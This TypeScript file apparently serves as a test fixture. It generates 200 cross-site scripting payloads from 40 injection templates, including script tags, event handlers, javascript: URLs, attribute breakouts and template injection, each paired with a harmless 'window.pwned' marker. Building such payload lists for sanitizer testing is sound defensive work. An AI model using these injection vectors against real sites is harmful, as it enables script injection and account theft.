const run = 'window.pwned=1'

/** Ways in: each takes the script and gives text that would run it somewhere. */
const ways: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</ScRiPt >`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<body onload="${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}" autofocus onfocus="${js}">x</a>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<style>@import 'javascript:${js}';*{background:url(javascript:${js})}</style>`,
  (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  (js) => `" onmouseover="${js}" autofocus onfocus="${js}" x="`,
  (js) => `' onmouseover='${js}' autofocus onfocus='${js}' x='`,
  (js) => `[x](javascript:${js})`,
  (js) => `![x](javascript:${js})`,
  (js) => `<javascript:${js}>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `";${js};//`,
  (js) => `';${js};//`,
  (js) => `\u2028${js}\u2028`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<template><script>${js}</script></template><noscript><img src=x onerror="${js}"></noscript>`,
  (js) => `__proto__<img src=x onerror="${js}">`,
  (js) => `=HYPERLINK("javascript:${js}")`,
]

/** Spellings of the same script. */
const spellings = [run, `window['pwned']=1`, `top.pwned=1`, `self.pwned=1;void 0`, `(()=>{window.pwned=1})()`]

/** Two hundred texts that would each set `window.pwned` if anything ran them. */
export const payloads: string[] = ways.flatMap((way) => spellings.map((js) => way(js)))
